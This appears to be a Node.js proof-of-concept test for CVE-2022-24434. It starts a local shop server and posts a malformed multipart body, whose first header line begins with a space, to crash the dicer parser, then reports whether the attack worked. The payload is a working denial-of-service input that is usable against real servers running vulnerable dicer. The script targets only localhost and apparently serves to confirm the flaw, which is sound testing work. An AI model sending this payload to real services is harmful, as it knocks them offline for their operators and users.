'use strict';

// CVE-2022-24434: a part of an upload whose first header starts with a space continues a header that
// is not there. dicer throws where nobody can catch it, and the server stops. Runs the server as a process of its own, to see it die.
const { fork } = require('child_process');

const shop = `
  const { createApp } = require('../src/app');
  const server = createApp().listen(0, '127.0.0.1', () => process.send(server.address().port));
`;
const server = fork('-e', [shop], { cwd: __dirname, execArgv: [], silent: true });
const stopped = new Promise((resolve) => server.once('exit', (code) => resolve(code !== 0)));

server.once('message', async (port) => {
  const body = [
    '------x',
    ' Content-Disposition: form-data; name="stars"',
    '',
    '5',
    '------x--',
    '',
  ].join('\r\n');
  fetch(`http://127.0.0.1:${port}/reviews/mug`, {
    method: 'POST',
    headers: { 'content-type': 'multipart/form-data; boundary=----x' },
    body,
  }).catch(() => {});
  const crashed = await Promise.race([
    stopped,
    new Promise((resolve) => setTimeout(resolve, 1500, false)),
  ]);
  server.kill('SIGKILL');
  console.log(crashed ? 'the attack worked' : 'the attack did not work');
  process.exit(crashed ? 0 : 1);
});
